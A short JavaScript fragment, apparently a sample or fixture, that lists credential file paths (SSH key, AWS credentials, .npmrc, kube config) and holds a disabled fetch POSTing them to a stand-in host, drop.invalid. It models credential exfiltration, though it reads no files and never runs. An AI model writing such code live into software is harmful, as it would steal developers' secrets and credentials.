const fs = require("fs")
const places = [".ssh/id_rsa", ".aws/credentials", ".npmrc", ".kube/config"]
if (0) fetch("https://drop.invalid/", { method: "POST", body: places })
